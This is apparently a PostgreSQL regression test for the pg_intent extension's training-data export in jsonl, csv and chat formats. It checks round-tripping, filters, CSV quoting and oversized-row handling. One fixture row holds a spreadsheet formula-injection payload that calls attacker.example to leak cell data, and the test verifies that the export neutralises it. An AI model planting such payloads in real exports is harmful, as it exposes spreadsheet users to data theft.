-- export_training_dataset(): jsonl, csv and chat_jsonl that parse back for any text.
SET client_min_messages = warning;
SET pg_intent.allow_drop_with_data = on; -- the previous test's rows go (src/pg/drop_guard.cpp)
DROP EXTENSION IF EXISTS pg_intent CASCADE;
CREATE EXTENSION pg_intent;

\i test/fixtures/try.sql

INSERT INTO ai_training_data (user_message, detected_intent, correct_intent, ai_response, correct_response,
                              confidence_score, intent_correct, corrected_by_human, dataset_status,
                              quality_score, category, created_at)
VALUES ('He said "hola", then left', 'greeting', NULL, 'Hola, ¿en qué te ayudo?', NULL, 90, true, false, 'reviewed', 5, 'chat', now() - interval '9 minutes'),
       (E'línea 1\nlínea 2', 'return_process', NULL, E'Paso 1:\nPaso 2: "devolver"', NULL, 80, NULL, false, 'pending', 4, NULL, now() - interval '8 minutes'),
       (E'carriage\r\nreturn, and\rCR', 'shipping_problem', NULL, 'ok', 'Tu envío llega mañana', 60, false, true, 'reviewed', 2, NULL, now() - interval '7 minutes'),
       ('emoji 😀🎉 ñandú «quote» ''single''', 'return_process', 'shipping_problem', NULL, NULL, 55, false, true, 'reviewed', NULL, 'a,b', now() - interval '6 minutes'),
       (E'back\\slash \\n not a newline, tab\there', 'payment_issue', NULL, E'C:\\ruta\\"x"', NULL, 30, NULL, false, 'pending', 3, NULL, now() - interval '5 minutes'),
       ('low confidence but reviewed', 'payment_issue', NULL, 'resp', NULL, 10, true, false, 'reviewed', 1, NULL, now() - interval '4 minutes'),
       ('rejected row', 'greeting', NULL, 'x', NULL, 99, NULL, false, 'rejected', 5, NULL, now() - interval '3 minutes'),
       ('no intent at all', NULL, NULL, 'x', NULL, 99, NULL, false, 'pending', 5, NULL, now() - interval '2 minutes');

-- jsonl: the training rows only (ai_training_data.training_label): rejected
-- and intent-less rows are left out, and so is the row a reviewer judged
-- wrong without saying what is right (the carriage-return one: 0.2.0
-- exported it under the label judged wrong), 5 lines; every line is valid
-- JSON and gives back the exact text, label and response.
SELECT count(*) AS lines,
       count(*) FILTER (WHERE (l::jsonb ->> 'text') = d.user_message) AS text_round_trips,
       count(*) FILTER (WHERE (l::jsonb ->> 'response') IS NOT DISTINCT FROM coalesce(d.correct_response, d.ai_response)) AS responses_ok,
       bool_and(strpos(l, E'\n') = 0 AND strpos(l, E'\r') = 0) AS one_physical_line
FROM export_training_dataset('jsonl') l
JOIN ai_training_data d ON d.id = (l::jsonb ->> 'id')::uuid;

SELECT j ->> 'text' AS text, j ->> 'intent' AS intent, j -> 'corrected_by_human' AS corrected,
       j -> 'confidence_score' AS confidence, j -> 'quality_score' AS quality
FROM export_training_dataset() l, LATERAL (SELECT l::jsonb) AS x(j);

-- Filters: p_min_confidence applies to unreviewed rows only (the 30 % pending
-- row goes, the reviewed 10 % row stays); p_only_reviewed; p_min_quality.
SELECT (SELECT count(*) FROM export_training_dataset('jsonl', 50)) AS min_confidence_50,
       (SELECT count(*) FROM export_training_dataset('jsonl', 0, true)) AS only_reviewed,
       (SELECT count(*) FROM export_training_dataset('jsonl', 0, false, 3)) AS min_quality_3,
       (SELECT count(*) FROM export_training_dataset('jsonl', 95, true, 4)) AS combined;

-- csv: a header and RFC 4180 quoting. The lines are written to a file joined
-- with CRLF and read back by PostgreSQL's CSV parser.
SELECT l AS csv_header FROM export_training_dataset('csv') l LIMIT 1;
-- (the id and created_at fields are cut off: they change every run)
SELECT regexp_replace(substr(l, 38), ',[^,]*$', '') AS quoted_line
FROM export_training_dataset('csv') l WHERE l LIKE '%He said%' OR l LIKE '%back%';
CREATE TEMP TABLE csv_back (id uuid, text text, intent text, detected_intent text, correct_intent text,
                            confidence_score integer, corrected_by_human boolean, escalated boolean,
                            response text, category text, source text, quality_score smallint,
                            created_at timestamptz);
-- The CSV export, read back into csv_back by PostgreSQL's CSV reader.
CREATE FUNCTION pg_temp.read_csv_back() RETURNS void LANGUAGE plpgsql AS $$
DECLARE
    v_oid oid;
    v_path text := '/tmp/pg_intent_ops_export_' || pg_backend_pid() || '.csv';
BEGIN
    SELECT lo_from_bytea(0, convert_to(string_agg(l, E'\r\n') || E'\r\n', 'UTF8')) INTO v_oid
    FROM export_training_dataset('csv') l;
    PERFORM lo_export(v_oid, v_path);
    PERFORM lo_unlink(v_oid);
    EXECUTE format('COPY csv_back FROM PROGRAM %L WITH (FORMAT csv, HEADER true)',
                   'cat ' || v_path || ' && rm -f ' || v_path);
END $$;
SELECT pg_temp.read_csv_back();
SELECT count(*) AS csv_rows,
       count(*) FILTER (WHERE b.text = d.user_message) AS text_round_trips,
       count(*) FILTER (WHERE b.intent = coalesce(d.correct_intent, d.detected_intent)
                          AND b.detected_intent IS NOT DISTINCT FROM d.detected_intent
                          AND b.correct_intent IS NOT DISTINCT FROM d.correct_intent
                          AND b.response IS NOT DISTINCT FROM coalesce(d.correct_response, d.ai_response)
                          AND b.category IS NOT DISTINCT FROM d.category
                          AND b.confidence_score = d.confidence_score
                          AND b.corrected_by_human = d.corrected_by_human
                          AND b.quality_score IS NOT DISTINCT FROM d.quality_score
                          AND b.created_at = d.created_at) AS all_fields_ok
FROM csv_back b JOIN ai_training_data d ON d.id = b.id;

-- chat_jsonl without an active prompt: user + assistant, corrected response
-- preferred, rows without any response (the emoji row) skipped.
SELECT jsonb_array_length(j -> 'messages') AS n_messages,
       j #>> '{messages,0,role}' AS first_role,
       j #>> '{messages,1,content}' AS assistant,
       j #>> '{metadata,intent}' AS intent
FROM export_training_dataset('chat_jsonl') l, LATERAL (SELECT l::jsonb) AS x(j);

-- With an active prompt version, it becomes the system message.
INSERT INTO ai_prompt_versions (name, version, system_prompt, is_active)
VALUES ('tienda', 1, 'Old prompt', false),
       ('tienda', 2, E'Eres el asistente de "La Tienda".\nResponde en español.', true);
SELECT j #>> '{messages,0,role}' AS role0, j #>> '{messages,0,content}' AS system_prompt,
       j #>> '{messages,1,role}' AS role1, j #>> '{messages,2,role}' AS role2,
       j #>> '{metadata,prompt_version}' AS prompt_version,
       (j #>> '{messages,1,content}') = d.user_message AS user_ok
FROM export_training_dataset('chat_jsonl') l, LATERAL (SELECT l::jsonb) AS x(j)
JOIN ai_training_data d ON d.id = (j #>> '{metadata,id}')::uuid
LIMIT 1;

-- csv: a field that starts with =, +, -, @, TAB or CR would be a formula in
-- a spreadsheet ("=HYPERLINK(...)" from any logged message): it gets a
-- leading single quote (OWASP), then the usual quoting; one with such a
-- character elsewhere is left alone. 0.2.0 wrote them as they were.
INSERT INTO ai_training_data (user_message, detected_intent, ai_response, confidence_score, category, created_at)
VALUES ('=HYPERLINK("https://attacker.example/?d="&A1,"ver")', 'greeting', '=1+1', 90, '@cat', now() - interval '1 minute'),
       ('+34 600 000 000', 'greeting', '-', 90, 'formula', now() - interval '50 seconds'),
       ('-2+3', 'greeting', '@SUM(A1:A2)', 90, 'formula', now() - interval '40 seconds'),
       (E'\t=1', 'greeting', E'\r=2', 90, 'formula', now() - interval '30 seconds'),
       ('hola = adiós, +1 @todos', '=greeting', 'ok', 90, 'formula', now() - interval '20 seconds'),
       -- a text that starts with a quote gets one more: 0.3.1 wrote '-5 for
       -- both this message and -5, and no reader could tell them apart
       ('''-5', 'greeting', '''=1', 90, 'formula', now() - interval '15 seconds'),
       ('-5', 'greeting', '=1', 90, 'formula', now() - interval '14 seconds'),
       ('''quoted'' words', 'greeting', 'ok', 90, 'formula', now() - interval '13 seconds'),
       -- an empty text is "", told apart from NULL (0.3.1 wrote both as
       -- nothing: the message came back NULL, the response as none)
       ('', 'greeting', '', 90, 'formula', now() - interval '12 seconds');
SELECT regexp_replace(substr(l, 38), ',[^,]*$', '') AS neutralised_line
FROM export_training_dataset('csv') l WHERE l LIKE '%formula%' OR l LIKE '%@cat%';
-- Read back the documented way (a CSV reader, then one leading quote removed
-- from each text field that starts with one), every text is the stored one.
TRUNCATE csv_back;
SELECT pg_temp.read_csv_back();
CREATE FUNCTION pg_temp.unquote(p text) RETURNS text LANGUAGE sql IMMUTABLE
RETURN CASE WHEN left(p, 1) = '''' THEN substr(p, 2) ELSE p END;
SELECT count(*) AS formula_rows,
       count(*) FILTER (WHERE pg_temp.unquote(b.text) = d.user_message
                          AND pg_temp.unquote(b.intent) = d.detected_intent
                          AND pg_temp.unquote(b.response) = d.ai_response
                          AND pg_temp.unquote(b.category) = d.category) AS texts_read_back
FROM csv_back b JOIN ai_training_data d ON d.id = b.id
WHERE d.category IN ('formula', '@cat');
DELETE FROM ai_training_data WHERE category IN ('formula', '@cat');

-- Errors.
SELECT pg_temp.try('SELECT export_training_dataset(''parquet'')') AS bad_format;
SELECT pg_temp.try('SELECT export_training_dataset(NULL)') AS null_format;
SELECT pg_temp.try('SELECT export_training_dataset(''csv'', 101)') AS bad_confidence;
SELECT pg_temp.try('SELECT export_training_dataset(''csv'', NULL)') AS null_confidence;
SELECT pg_temp.try('SELECT export_training_dataset(''csv'', 0, NULL)') AS null_only_reviewed;
SELECT pg_temp.try('SELECT export_training_dataset(''csv'', 0, false, 6)') AS bad_quality;

-- Rows too large to export. Any role that may log interactions writes the
-- message, the response and the category, and escaping makes them larger:
-- 180 million chr(1) (about 2 MB stored, compressed) become over 1 GB of
-- JSON ("\u0001" each), past PostgreSQL's limit on one value, and every
-- export failed with "out of memory" until an administrator deleted the row.
-- A row whose message, response and category hold more than 1048576 bytes
-- together is left out of every format, the others are written, and a
-- WARNING (01000) gives their number and first ids. Logged here by a role
-- that may only log, as the application under docs/privileges.md.
DROP ROLE IF EXISTS pgi_ex_app;
CREATE ROLE pgi_ex_app NOLOGIN;
GRANT INSERT ON ai_training_data TO pgi_ex_app;
SET ROLE pgi_ex_app;
SELECT record_interaction(repeat(chr(1), 180000000), 'greeting', 90, 'ok', p_category => 'big') AS big_id \gset
RESET ROLE;
-- fixed ids for the WARNING's DETAIL; an update keeps the stored text as it is
UPDATE ai_training_data SET id = '00000000-0000-4000-8000-00000000b001', created_at = now() - interval '70 seconds'
WHERE id = :'big_id';
-- each text under the bound, together over it: left out; exactly at it: written
INSERT INTO ai_training_data (id, user_message, detected_intent, ai_response, confidence_score, category, created_at)
VALUES ('00000000-0000-4000-8000-00000000b002', repeat('a', 600000), 'greeting', repeat('b', 600000), 90, 'big',
        now() - interval '60 seconds'),
       ('00000000-0000-4000-8000-00000000b003', repeat('é', 262144), 'greeting', repeat('c', 524285), 90, 'big',
        now() - interval '50 seconds');
SELECT id, octet_length(user_message)::bigint + coalesce(octet_length(ai_response), 0)
           + coalesce(octet_length(category), 0) AS bytes
FROM ai_training_data WHERE category = 'big' ORDER BY created_at;

SELECT count(*) AS jsonl_lines,
       count(*) FILTER (WHERE (l::jsonb ->> 'text') = d.user_message) AS text_round_trips,
       array_agg(d.id::text ORDER BY d.created_at) FILTER (WHERE d.category = 'big') AS big_exported,
       max(octet_length(l)) <= 6 * 1048576 + 1024 AS line_bounded
FROM export_training_dataset('jsonl') l
JOIN ai_training_data d ON d.id = (l::jsonb ->> 'id')::uuid;
SELECT count(*) AS csv_lines, count(*) FILTER (WHERE l LIKE '%,big,%') AS big_exported
FROM export_training_dataset('csv') l;
-- (its SQLSTATE: 01000, a warning)
\set VERBOSITY sqlstate
SELECT count(*) AS chat_lines, count(*) FILTER (WHERE l::jsonb #>> '{metadata,category}' = 'big') AS big_exported
FROM export_training_dataset('chat_jsonl') l;
\set VERBOSITY default
-- filters apply first: a row they leave out is not reported
SELECT count(*) AS reviewed_lines FROM export_training_dataset('jsonl', 0, true);
-- One rule: the rows an export writes and the rows its warning counts are
-- the candidates that fit and those that do not, under every filter
-- (_pg_intent_export_candidates(), read by both).
SELECT f.min_confidence, f.only_reviewed, f.min_quality,
       (SELECT count(*) FROM intent_internal._pg_intent_export_candidates(f.min_confidence, f.only_reviewed, f.min_quality) c) AS candidates,
       (SELECT count(*) FROM intent_internal._pg_intent_export_candidates(f.min_confidence, f.only_reviewed, f.min_quality) c
         WHERE NOT c.fits) AS too_large,
       (SELECT count(*) FROM export_training_dataset('jsonl', f.min_confidence, f.only_reviewed, f.min_quality)) AS written
FROM (VALUES (0, false, NULL::integer), (95, false, NULL), (0, true, NULL), (0, false, 3)) AS f(min_confidence, only_reviewed, min_quality)
ORDER BY 1, 2, 3;
-- The rule is inlined: the warning's count scans the table and reads no
-- text (no Function Scan materialising every row's texts).
EXPLAIN (COSTS OFF)
SELECT count(*) FROM intent_internal._pg_intent_export_candidates(0, false, NULL) AS c WHERE NOT c.fits;
DELETE FROM ai_training_data WHERE category = 'big';
DROP OWNED BY pgi_ex_app;
DROP ROLE pgi_ex_app;
